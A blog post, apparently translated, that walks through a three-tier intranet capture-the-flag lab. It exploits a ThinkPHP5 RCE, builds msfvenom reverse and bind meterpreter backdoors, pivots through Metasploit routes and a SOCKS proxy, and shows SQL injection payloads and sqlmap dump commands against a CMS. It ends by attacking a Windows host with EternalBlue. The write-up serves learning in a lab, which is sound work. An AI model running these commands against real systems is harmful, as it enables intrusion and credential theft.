CFS layer 3 intranet roaming-2019 a CTF case

tips: after downloading the shooting range, you need to configure the network card, IP, etc. to ensure the three-tier Intranet environment

The shooting range penetrates the intranet layer by layer from the WEB level, mainly to learn ideas and lay a good foundation for future intranet penetration

The topology is as follows:

Excerpt from brother Di's hhh

Penetration test


Probe target - exploit WEB vulnerability (TP5_RCE) - get webshell permission - get Flag-Target2

Information collection:

Use nmap to scan ports

(I don't configure the IP in the topology here, so I can configure the IP by myself.)

nmap -sV -p 1-65535 -T4

If you are prompted that the site is not built, you need to configure it in the background of the pagoda. The environment building tutorials are

Access the scanned port 80, (public directory)

target1(thinkphp5 build)

Go directly to exp or tools (convenient and fast / mind you can manually)The payload is automatically generated, and the back door connection address is very intimate. The password is also given

Just connect the ant sword and successfully obtain the shell+flag

Or use EXP published online

It's also very considerate. payload, the database also comes out, and it's convenient to generate files with one click

Intranet horizontal

Go directly to MSF,

1. Generate MSF backdoor (IP, port changes by itself)

msfvenom -p linux/x64/meterpreter/reverse_tcp LHOST=your:ip LPORT=1111 -f elf >t1.elf2. Set monitoring

use exploit/multi/handler
set payload linux/x64/meterpreter/reverse_tcp
set LHOST your:ip
set LPORT 1111

Upload the generated Trojan horse with ant sword and execute it. If the permission is not enough, chmod+x can be used

After execution, you can see that the shell has bounced back and continue the subsequent penetration

Intranet agent

Information collection and configuration access

Get network interface: run get_local_subnets
 View routing address: run autoroute -p
 Add routing address: runautoroute -s

Get network interface: get three network segments

Check the routing address: not added yet

Add 22 network segment routing address:

After adding, you can see the routing address. After adding,you can use MSFping to connect to the 22 network segment (only based on the MSF session can communicate)

The route has been added, but only the returned shell can access the intranet target in segment 22;

tips: only based on the shell received by MSF, you can access tong22 network segment. Please understand by yourself

The current session is session1, which is built on the shell of Target1. After the route is established, it can communicate with network segment 22. So we want to use tools to attack the 22 network segment through session1. What should we do at this time?

(in order to solve this situation, we can open an agent locally (there is a module on msf that can open an agent). Through this agent, we can give others a port to connect, and then we can use our own machine (our own computer, not the attacker kali) to connect to kali's port, so that we can accessYou can use sock4+proxychains4agent to get through the intranet

background   Save what you got shell Session, hidden to background
use auxiliary/server/socks_proxy
set SRVPORT 1080

Under linux system, the local proxy interface can be used for access

tips: the configuration file must be modified, otherwise it cannot be received

vim /etc/proxychains4.conf

Modify the configuration information at the end of the file

It is impossible to scan the network segment with nmap directly in kali. It will show that it is not found

You need to add the newly configured agent file to scan

proxychains4 nmap -Pn -sT
proxychains4 nmap -Pn -sT

Under windows, you can install a SocksCap64 or Proxifier to set the agent

Just add the tools you want to use

If the browser wants to access the 22 network segment, it is also very simple. Just configure the network

Successful access to 22 network segment, another wave of information collection

After port scanning, check port 80 and find myna CMS

Run a wave of background targets. I use dirb/dirsearcDiscover robots directory

Find similar background, visit and try

After successfully accessing the background and trying to explode without success, check the source code of the website and find the SQL injection point

Manual error injection

index.php?r=vul&keyword=1 ' and updatexml(1,concat(0x7e,substr((select group_concat(table_name) from information_schema.tables where table_schema='bagecms'),1,32),0x7e),1)--+

Table name:index.php?r=vul&keyword=1'and(select updatexml(1,concat(0x7e,(select group_concat(table_name)from information_schema.tables where table_schema="bagecms")),0x7e)) --+

Finally, the data burst:

md5 decrypts and obtains the background account password admin 123qwe

Login backgroundhttp://url/index.php?r=admini/default/index

Or SQLmap runs a wave

proxychains4 sqlmap -u "" -p keyword –dbs
proxychains4 sqlmap -u "" -p keyword -D bagecms –tables
proxychains4 sqlmap -u "" -p keyword -D bagecms -T bage_admin –columns
proxychains4 sqlmap -u "" -p keyword -D bagecms -T bage_admin -C username,password –dump

Log in to the background and take down the flag

Content template found, try to write to shell


Use AntSword to set the proxy connection shell, and ant sword has its own proxy function

After getting the shell

Continue to pass the horse to get the shell at msf, but the target is in the network segment. We can't connect it actively, so we need to connect it forward here, and msf can connect it

Generate forward backdoormsfvenom -p linux/x64/meterpreter/bind_tcp LPORT=3333 -f elf > 3.elf

msf forward connection

use exploit/multi/handler
set payload linux/x64/meterpreter/bind_tcp
set rhost
set LPORT 3333

It is still the old step, information collection + configuration access

Get network interface: run get_local_subnets
 Add routing address: run autoroute -s
 View routing address: run autoroute -p



Continue to scan 33 network segments with proxy

proxychains4 nmap -Pn -sTI found that this is a Windows system with ports 445 and 3389 open. Try using eternal blue

use exploit/windows/smb/ms17_010_psexec
set payload windows/meterpreter/bind_tcp

After you get the session, you can execute the system command casually. Here the shell is garbled. You can enter chcp 65001 to modify the code, which is good

net user

Search flagcd /
dir /S *flag* /B
type C:\Windows\System32\config\flag.txt
# /B displays the name of the folder or file
# /S displays the files in the specified directory and all subdirectories.
# dir /S /B *flag*

Finally, you can check the type

So far, three flag s have been successfully won


1,It may be that the environment is not configured well, which leads to the fact that my local machine and kali can connect to three target machines. emmmm has not found the reason, and the networkcard is not working. I don't understand why it can work (pretend that he doesn't work hhhhhh)

2, target2 didn't fully understand the meaning of forward agency when playing target3

3, Summarize the attack process, find the 80 port open ThinkPHP through the IP information collection port, use EXP to successfully get the shell of Target1, use MSF to generate a horse and upload it to the host of Target1 for execution, kali to listen, start collecting information after receiving the session, and add the route of 22 network segments. linux uses its own proxy tool proxychains4 for proxy communication, and other tools can be used to scan 22 network segments, You can also use the windows tool proxifier/sockscap to scan the 22 network segments. You can scan the IP of the 22 network segments through the proxy tool and find the open port 80. You can visit the mynaCMS. You can scan the directory and find the background path in the robots directory. The attempt to blast failed. You can audit the web source code and find that theinjection point is indicated. SQLmap or manually run a wave of backgroundaccount passwords to log in. The background interface finds that the template function point can be written to the shell, Use the ant sword to connect, successfully win the shell of target2, use target2 as a springboard to attack target3, and use the forward proxy to generate a horse. (my general understanding is that the shell session of target2 obtained through MSF continues to play target3,) generate a forward and backward door, and use MSF to connect forward, (personal understanding: it is equivalent to that we have obtained the shell of target2, and the horse is generated through the shell session of target2 to attack target3, because the session of 2 has established a route, and MSF can access 33 network segments). Information collection information of tatget3 is found to open port 445/3389, and try to use ms17010 for direct attack (or attack based on the shell session of target2). The shell is successfully obtained through ms17010, which is over

4, Don't just limit yourself to msf. Indeed, we have to learn how to use other tools later, such as CS, ladon and other common tools in the market

5, The main thing is to learn an idea to lay a good foundation for future intranet penetration. Some of them still have no idea. emmmm feels that the difficulty of Intranet is much higher than that of WEB

Tags: Cyber Security security network Intranet Penetration

Posted byrahish on Sun, 07 Aug 2022 21:54:33 +0530